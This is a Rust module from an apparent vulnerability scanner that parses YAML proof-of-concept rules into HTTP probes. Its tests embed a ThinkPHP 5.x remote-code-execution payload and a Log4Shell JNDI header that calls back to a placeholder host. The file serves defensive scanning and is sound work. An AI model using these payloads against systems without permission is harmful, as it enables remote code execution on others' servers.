//! Declarative PoC rules.
//!
//! A [`PocRule`] is pure data: a name, a severity, and an ordered list of
//! probe specs. Rule files carry exactly this structure as YAML. Probe paths,
//! headers, and bodies may reference `{{reverse}}`, which expands to the
//! callback address minted for the evaluation.

use crate::http::ProbeRequest;
use crate::rules::{Matcher, Probe, Rule, RuleError};
use crate::types::{CallbackEcho, Target};
use reqwest::header::{HeaderName, HeaderValue};
use reqwest::Method;
use serde::{Deserialize, Serialize};
use std::collections::BTreeMap;
use url::Url;

/// Placeholder expanded to the out-of-band callback address.
pub const REVERSE_MARKER: &str = "{{reverse}}";

/// Reported severity of a finding.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Default, Serialize, Deserialize)]
#[serde(rename_all = "lowercase")]
pub enum Severity {
    Info,
    Low,
    #[default]
    Medium,
    High,
    Critical,
}

impl std::fmt::Display for Severity {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        let label = match self {
            Severity::Info => "info",
            Severity::Low => "low",
            Severity::Medium => "medium",
            Severity::High => "high",
            Severity::Critical => "critical",
        };
        write!(f, "{label}")
    }
}

/// One probe as written in a rule file.
#[derive(Debug, Clone, Serialize, Deserialize)]
pub struct ProbeSpec {
    /// HTTP method, `GET` when omitted.
    #[serde(default = "default_method")]
    pub method: String,
    /// Path appended to the target base, or a full `http(s)://` URL.
    pub path: String,
    /// Extra request headers; these override target headers on collision.
    #[serde(default)]
    pub headers: BTreeMap<String, String>,
    /// Optional request body.
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub body: Option<String>,
    /// Predicate for the response, `always` when omitted.
    #[serde(default = "default_matcher")]
    pub matcher: Matcher,
}

fn default_method() -> String {
    "GET".to_string()
}

fn default_matcher() -> Matcher {
    Matcher::Always
}

impl ProbeSpec {
    fn mentions_callback(&self) -> bool {
        self.path.contains(REVERSE_MARKER)
            || self.body.as_deref().is_some_and(|b| b.contains(REVERSE_MARKER))
            || self
                .headers
                .iter()
                .any(|(k, v)| k.contains(REVERSE_MARKER) || v.contains(REVERSE_MARKER))
    }

    /// Turn the spec into a concrete request against one target.
    fn realize(
        &self,
        rule: &str,
        target: &Target,
        callback: Option<&CallbackEcho>,
    ) -> Result<Probe, RuleError> {
        let invalid = |reason: String| RuleError::Invalid {
            name: rule.to_string(),
            reason,
        };

        let method = Method::from_bytes(self.method.as_bytes())
            .map_err(|_| invalid(format!("unsupported method '{}'", self.method)))?;

        let path = substitute(&self.path, callback);
        let address = if path.starts_with("http://") || path.starts_with("https://") {
            path
        } else if path.starts_with('/') {
            format!("{}{}", target.base(), path)
        } else {
            format!("{}/{}", target.base(), path)
        };
        let url = Url::parse(&address)
            .map_err(|e| invalid(format!("probe URL '{address}': {e}")))?;

        let mut request = ProbeRequest::new(method, url);
        request.headers = target.headers().clone();
        for (name, value) in &self.headers {
            let name = HeaderName::from_bytes(name.as_bytes())
                .map_err(|_| invalid(format!("bad header name '{name}'")))?;
            let value = HeaderValue::from_str(&substitute(value, callback))
                .map_err(|_| invalid(format!("bad value for header '{name:?}'")))?;
            request.headers.insert(name, value);
        }
        request.body = self.body.as_deref().map(|b| substitute(b, callback));

        Ok(Probe {
            request,
            matcher: self.matcher.clone(),
        })
    }
}

fn substitute(input: &str, callback: Option<&CallbackEcho>) -> String {
    match callback {
        Some(echo) => input.replace(REVERSE_MARKER, &echo.address),
        None => input.to_string(),
    }
}

/// Declarative vulnerability check, loadable from YAML.
#[derive(Debug, Clone, Serialize, Deserialize)]
pub struct PocRule {
    pub name: String,
    #[serde(default)]
    pub severity: Severity,
    #[serde(default, skip_serializing_if = "String::is_empty")]
    pub description: String,
    pub probes: Vec<ProbeSpec>,
}

impl PocRule {
    /// Reject rules that could never run correctly.
    ///
    /// Called once at load time; a rule that passes here cannot fail later
    /// for structural reasons, only per-target ones.
    pub fn validate(&self) -> Result<(), RuleError> {
        let invalid = |reason: &str| RuleError::Invalid {
            name: self.name.clone(),
            reason: reason.to_string(),
        };

        if self.name.trim().is_empty() {
            return Err(RuleError::Invalid {
                name: "<unnamed>".to_string(),
                reason: "rule name is empty".to_string(),
            });
        }
        if self.probes.is_empty() {
            return Err(invalid("rule has no probes"));
        }
        for spec in &self.probes {
            if spec.path.trim().is_empty() {
                return Err(invalid("probe path is empty"));
            }
            if Method::from_bytes(spec.method.as_bytes()).is_err() {
                return Err(RuleError::Invalid {
                    name: self.name.clone(),
                    reason: format!("unsupported method '{}'", spec.method),
                });
            }
            spec.matcher.validate()?;
        }
        Ok(())
    }
}

impl Rule for PocRule {
    fn name(&self) -> &str {
        &self.name
    }

    fn severity(&self) -> Severity {
        self.severity
    }

    fn needs_callback(&self) -> bool {
        self.probes.iter().any(ProbeSpec::mentions_callback)
    }

    fn probes(
        &self,
        target: &Target,
        callback: Option<&CallbackEcho>,
    ) -> Result<Vec<Probe>, RuleError> {
        // Without a minted echo a marker probe has no usable payload, so it
        // drops out and only the direct probes run.
        self.probes
            .iter()
            .filter(|spec| callback.is_some() || !spec.mentions_callback())
            .map(|spec| spec.realize(&self.name, target, callback))
            .collect()
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::types::CallbackToken;

    fn sample_yaml() -> &'static str {
        r#"
name: thinkphp-rce-probe
severity: high
description: ThinkPHP 5.x method filter bypass
probes:
  - path: /index.php?s=captcha
    method: POST
    headers:
      Content-Type: application/x-www-form-urlencoded
    body: "_method=__construct&filter[]=phpinfo&method=get&server[REQUEST_METHOD]=1"
    matcher:
      all:
        - status_is: 200
        - body_contains: "PHP Version"
"#
    }

    #[test]
    fn test_parse_rule_file_yaml() {
        let rule: PocRule = serde_yaml::from_str(sample_yaml()).unwrap();
        assert_eq!(rule.name, "thinkphp-rce-probe");
        assert_eq!(rule.severity, Severity::High);
        assert_eq!(rule.probes.len(), 1);
        assert_eq!(rule.probes[0].method, "POST");
        assert!(rule.validate().is_ok());
        assert!(!rule.needs_callback());
    }

    #[test]
    fn test_defaults_when_fields_omitted() {
        let rule: PocRule = serde_yaml::from_str(
            r#"
name: bare
probes:
  - path: /status
"#,
        )
        .unwrap();
        assert_eq!(rule.severity, Severity::Medium);
        assert_eq!(rule.probes[0].method, "GET");
        assert_eq!(rule.probes[0].matcher, Matcher::Always);
    }

    #[test]
    fn test_realize_joins_target_base() {
        let rule: PocRule = serde_yaml::from_str(sample_yaml()).unwrap();
        let target = Target::parse("example.test:8080/app/").unwrap();

        let probes = rule.probes(&target, None).unwrap();
        assert_eq!(
            probes[0].request.url.as_str(),
            "http://example.test:8080/app/index.php?s=captcha"
        );
        assert_eq!(probes[0].request.method, Method::POST);
        assert_eq!(
            probes[0].request.headers.get("content-type").unwrap(),
            "application/x-www-form-urlencoded"
        );
    }

    #[test]
    fn test_absolute_probe_path_wins() {
        let rule: PocRule = serde_yaml::from_str(
            r#"
name: absolute
probes:
  - path: "https://other.test/ping"
"#,
        )
        .unwrap();
        let target = Target::parse("example.test").unwrap();
        let probes = rule.probes(&target, None).unwrap();
        assert_eq!(probes[0].request.url.as_str(), "https://other.test/ping");
    }

    #[test]
    fn test_target_headers_carry_into_probe() {
        let rule: PocRule = serde_yaml::from_str(
            r#"
name: carries-cookie
probes:
  - path: /admin
"#,
        )
        .unwrap();
        let target = Target::parse("example.test")
            .unwrap()
            .with_cookie("session=abc123")
            .unwrap();

        let probes = rule.probes(&target, None).unwrap();
        assert_eq!(
            probes[0].request.headers.get("cookie").unwrap(),
            "session=abc123"
        );
    }

    #[test]
    fn test_callback_marker_detection_and_substitution() {
        let rule: PocRule = serde_yaml::from_str(
            r#"
name: blind-jndi
probes:
  - path: /
    headers:
      X-Api-Version: "${jndi:ldap://{{reverse}}/a}"
    matcher: never
"#,
        )
        .unwrap();
        assert!(rule.needs_callback());

        let echo = CallbackEcho::new(
            "ab12cd34ef56.dig.example.test",
            CallbackToken::mint(),
        );
        let target = Target::parse("example.test").unwrap();
        let probes = rule.probes(&target, Some(&echo)).unwrap();
        let header = probes[0].request.headers.get("x-api-version").unwrap();
        assert_eq!(
            header.to_str().unwrap(),
            "${jndi:ldap://ab12cd34ef56.dig.example.test/a}"
        );
    }

    #[test]
    fn test_marker_probes_drop_out_without_an_echo() {
        let rule: PocRule = serde_yaml::from_str(
            r#"
name: mixed
probes:
  - path: /
    headers:
      X-Api-Version: "${jndi:ldap://{{reverse}}/a}"
    matcher: never
  - path: /status
    matcher:
      status_is: 200
"#,
        )
        .unwrap();
        let target = Target::parse("example.test").unwrap();

        let degraded = rule.probes(&target, None).unwrap();
        assert_eq!(degraded.len(), 1);
        assert_eq!(degraded[0].request.url.path(), "/status");

        let echo = CallbackEcho::new("ab12cd34ef56.dig.example.test", CallbackToken::mint());
        let full = rule.probes(&target, Some(&echo)).unwrap();
        assert_eq!(full.len(), 2);
    }

    #[test]
    fn test_validate_rejects_structural_problems() {
        let no_probes: PocRule = serde_yaml::from_str("name: empty\nprobes: []").unwrap();
        assert!(matches!(
            no_probes.validate(),
            Err(RuleError::Invalid { .. })
        ));

        let bad_method: PocRule = serde_yaml::from_str(
            r#"
name: bad-method
probes:
  - path: /
    method: "GE T"
"#,
        )
        .unwrap();
        assert!(matches!(
            bad_method.validate(),
            Err(RuleError::Invalid { .. })
        ));

        let bad_regex: PocRule = serde_yaml::from_str(
            r#"
name: bad-regex
probes:
  - path: /
    matcher:
      body_matches: "[unclosed"
"#,
        )
        .unwrap();
        assert!(matches!(
            bad_regex.validate(),
            Err(RuleError::InvalidPattern { .. })
        ));
    }
}
